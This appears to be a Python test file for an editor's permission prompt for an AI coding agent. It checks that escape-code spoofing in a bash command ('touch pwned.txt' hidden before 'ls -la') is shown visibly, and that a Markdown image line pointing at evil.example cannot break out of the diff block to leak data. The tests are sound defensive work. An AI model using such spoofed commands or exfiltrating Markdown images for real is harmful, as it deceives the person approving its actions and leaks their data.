"""An editor's permission request shows what will run (issue 39): the command with its escape
codes as visible codes and a warning first, and file lines in a diff that cannot close the
code block they are shown in (the panel renders Markdown: a link or an image there would be
the file's, not the agent's)."""

from __future__ import annotations

from pathlib import Path

from acp_client import EditorClient, ask, editor
from fake_openai import FakeOpenAI, text, tool_calls
from markdown_it import MarkdownIt


async def test_a_spoofing_command_is_shown_as_it_runs(fake: FakeOpenAI, project: Path) -> None:
    command = "touch pwned.txt \x1b[2K\x1b[1G\rls -la"
    fake.script(tool_calls([("bash", {"command": command})], ids=["call_s"]), text("ok"))
    client = EditorClient(answer="reject_once")
    async with editor(fake, project, client) as (conn, sid):
        await ask(conn, sid, "list the files")
    [(call, _)] = client.asked
    assert call.title == "bash: touch pwned.txt ␛[2K␛[1G␍ls -la"
    shown = call.content[0].content.text
    assert shown.startswith("**warning: there are terminal escape sequences and control")
    assert "```sh\ntouch pwned.txt ␛[2K␛[1G␍ls -la\n```" in shown
    assert "\x1b" not in shown and "\r" not in shown
    assert not (project / "pwned.txt").exists()


async def test_file_lines_cannot_leave_the_diff_block(fake: FakeOpenAI, project: Path) -> None:
    """A context line "```" in an edit's diff (" ```") used to close the panel's code block, and
    the file's next line rendered as an image fetched from the attacker's address."""
    (project / "doc.md").write_text("```\n![x](https://evil.example/?leak=notes)\nold\n")
    edit = {"path": "doc.md", "old_string": "old", "new_string": "new"}
    fake.script(
        tool_calls([("read_file", {"path": "doc.md"})]),
        tool_calls([("edit_file", edit)]),
        text("ok"),
    )
    client = EditorClient(answer="reject_once")
    async with editor(fake, project, client) as (conn, sid):
        await ask(conn, sid, "edit it")
    [(call, _)] = client.asked
    shown = call.content[0].content.text
    tokens = MarkdownIt().parse(shown)
    inline = [t for tok in tokens for t in tok.children or []]
    assert [t.type for t in inline if t.type in ("image", "link_open")] == []
    [diff] = [t for t in tokens if t.type == "fence"]
    assert " ![x](https://evil.example/?leak=notes)\n-old\n+new" in diff.content
